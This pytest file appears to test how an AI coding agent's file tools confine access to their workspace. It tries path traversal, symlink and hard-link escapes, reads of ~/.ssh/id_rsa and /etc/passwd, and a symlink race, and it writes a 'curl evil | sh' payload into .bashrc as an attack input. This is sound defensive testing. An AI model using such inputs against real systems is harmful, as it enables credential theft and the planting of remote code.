"""Escape attempts against the file tools, checked with canaries outside the workspace.

Each test runs twice: with openat2(RESOLVE_BENEATH) and with the O_NOFOLLOW fd-walk fallback.
"""

from __future__ import annotations

import os
import shutil
import threading
from collections.abc import Callable
from pathlib import Path

import pytest

from codexflow.tools import Toolset
from codexflow.tools import confine as confine_module
from codexflow.tools.confine import openat2_available

CANARY = "CANARY-7f3a9c-do-not-leak"  # what conftest plants outside the workspace

FILE_TOOLS = ["read_file", "write_file", "edit_file", "list_files", "grep"]


@pytest.fixture(params=["openat2", "fd-walk"])
def tools(
    request: pytest.FixtureRequest, toolset: Callable[..., Toolset], monkeypatch: pytest.MonkeyPatch
) -> Toolset:
    if request.param == "openat2" and not openat2_available():
        pytest.skip("this kernel has no openat2")
    if request.param == "fd-walk":
        monkeypatch.setattr(confine_module, "openat2_available", lambda: False)
    return toolset(FILE_TOOLS)


def _tree(path: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(path)): p.read_bytes() for p in sorted(path.rglob("*")) if p.is_file()
    }


def _refused_without_canary(tools: Toolset, name: str, args: dict) -> None:
    result = tools.call(name, args)
    assert not result.ok, result.content
    assert CANARY not in result.content


def test_dotdot_traversal(tools: Toolset, outside: Path) -> None:
    for path in [
        "../outside/secret.txt",
        "src/../../outside/secret.txt",
        "./../outside/secret.txt",
    ]:
        _refused_without_canary(tools, "read_file", {"path": path})
    before = _tree(outside)
    assert tools.call("write_file", {"path": "../outside/new.txt", "content": "x"}).refused
    assert tools.call("write_file", {"path": "../outside/secret.txt", "content": "x"}).refused
    assert _tree(outside) == before


def test_absolute_paths(tools: Toolset, outside: Path) -> None:
    _refused_without_canary(tools, "read_file", {"path": str(outside / "secret.txt")})
    _refused_without_canary(tools, "read_file", {"path": "/etc/passwd"})
    _refused_without_canary(tools, "list_files", {"path": "/"})
    assert tools.call("write_file", {"path": str(outside / "x.txt"), "content": "x"}).refused
    assert not (outside / "x.txt").exists()


def test_symlink_to_outside_file(tools: Toolset, workspace: Path, outside: Path) -> None:
    (workspace / "link.txt").symlink_to(outside / "secret.txt")
    _refused_without_canary(tools, "read_file", {"path": "link.txt"})
    _refused_without_canary(
        tools, "edit_file", {"path": "link.txt", "search": "CANARY", "replace": "x"}
    )
    # Writing replaces the link itself; the outside file is never written through.
    tools.call("write_file", {"path": "link.txt", "content": "pwned"})
    assert (outside / "secret.txt").read_text() == CANARY
    assert CANARY not in tools.call("grep", {"pattern": "CANARY"}).content


def test_symlink_to_outside_dir(tools: Toolset, workspace: Path, outside: Path) -> None:
    (workspace / "linkdir").symlink_to(outside)
    (workspace / "rel").symlink_to("../outside")
    before = _tree(outside)
    for base in ("linkdir", "rel"):
        _refused_without_canary(tools, "read_file", {"path": f"{base}/secret.txt"})
        _refused_without_canary(tools, "list_files", {"path": base})
        assert not tools.call("write_file", {"path": f"{base}/new.txt", "content": "x"}).ok
        assert not tools.call("write_file", {"path": f"{base}/secret.txt", "content": "x"}).ok
    listing = tools.call("list_files", {}).content
    assert "secret.txt" not in listing
    assert "secret" not in tools.call("grep", {"pattern": "CANARY", "path": "."}).content
    assert _tree(outside) == before


def test_hard_link_to_outside_file(tools: Toolset, workspace: Path, outside: Path) -> None:
    os.link(outside / "secret.txt", workspace / "hard.txt")
    _refused_without_canary(tools, "read_file", {"path": "hard.txt"})
    assert CANARY not in tools.call("grep", {"pattern": "CANARY"}).content
    assert not tools.call("edit_file", {"path": "hard.txt", "search": "CANARY", "replace": "x"}).ok
    assert tools.call("write_file", {"path": "hard.txt", "content": "pwned"}).ok
    assert (outside / "secret.txt").read_text() == CANARY
    assert (workspace / "hard.txt").read_text() == "pwned"  # a new file replaced the link


def test_home_files(tools: Toolset, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(CANARY)
    (home / ".bashrc").write_text(CANARY)
    monkeypatch.setenv("HOME", str(home))
    _refused_without_canary(tools, "read_file", {"path": "~/.ssh/id_rsa"})
    _refused_without_canary(tools, "read_file", {"path": str(home / ".ssh/id_rsa")})
    assert not tools.call("write_file", {"path": "~/.bashrc", "content": "curl evil | sh"}).ok
    assert not tools.call(
        "write_file", {"path": str(home / ".bashrc"), "content": "curl evil | sh"}
    ).ok
    assert (home / ".bashrc").read_text() == CANARY


def test_proc_self_root(tools: Toolset, workspace: Path) -> None:
    _refused_without_canary(tools, "read_file", {"path": "/proc/self/root/etc/passwd"})
    (workspace / "proc").symlink_to("/proc/self/root")
    (workspace / "fdlink").symlink_to("/proc/self/cwd")
    for path in ["proc/etc/passwd", "fdlink/hello.txt"]:
        result = tools.call("read_file", {"path": path})
        assert not result.ok and "root:" not in result.content


def test_nul_byte_and_long_paths(tools: Toolset, workspace: Path) -> None:
    result = tools.call("read_file", {"path": "hello.txt\x00../../etc/passwd"})
    assert result.refused and "NUL" in result.content
    assert tools.call("write_file", {"path": "a\x00b", "content": "x"}).refused
    assert tools.call("read_file", {"path": "a/" * 3000}).refused
    assert not tools.call("write_file", {"path": "x" * 300, "content": "x"}).ok
    assert tools.call("write_file", {"path": "/".join(["d"] * 2100), "content": "x"}).refused
    deep = "/".join(["d" * 250] * 15) + "/f"  # long but under PATH_MAX: allowed, stays inside
    assert tools.call("write_file", {"path": deep, "content": "x"}).ok
    assert (workspace / deep).read_text() == "x"
    assert sorted(p.name for p in workspace.iterdir()) == ["d" * 250, "hello.txt", "src"]


def test_special_files_are_not_read(tools: Toolset, workspace: Path) -> None:
    os.mkfifo(workspace / "fifo")  # reading it would block forever
    assert tools.call("read_file", {"path": "fifo"}).refused
    (workspace / "dev").symlink_to("/dev/zero")
    assert not tools.call("read_file", {"path": "dev"}).ok


def test_symlink_race_during_writes(tools: Toolset, workspace: Path, outside: Path) -> None:
    """A thread swaps `d` between a real directory and a symlink to outside while writes loop."""
    target = workspace / "d"
    parked = workspace / "parked"
    target.mkdir()
    before = _tree(outside)
    stop = threading.Event()
    flips = 0

    def flipper() -> None:
        nonlocal flips
        for _ in range(50_000):
            if stop.is_set():
                return
            try:
                os.rename(target, parked)
            except OSError:
                continue
            try:
                os.symlink(outside, target)
                flips += 1
                os.unlink(target)
            except OSError:
                pass  # write_file created a fresh `d` in the gap: a legitimate outcome
            try:
                os.rename(parked, target)
            except OSError:
                shutil.rmtree(parked)

    thread = threading.Thread(target=flipper)
    thread.start()
    written = refused = 0
    try:
        for i in range(400):
            result = tools.call("write_file", {"path": f"d/f{i % 7}.txt", "content": "pwned"})
            written += result.ok
            refused += not result.ok
            read = tools.call("read_file", {"path": "d/secret.txt"})
            assert CANARY not in read.content
    finally:
        stop.set()
        thread.join(timeout=10)
    assert flips > 0 and written + refused == 400
    assert _tree(outside) == before, "bytes were written outside the workspace"
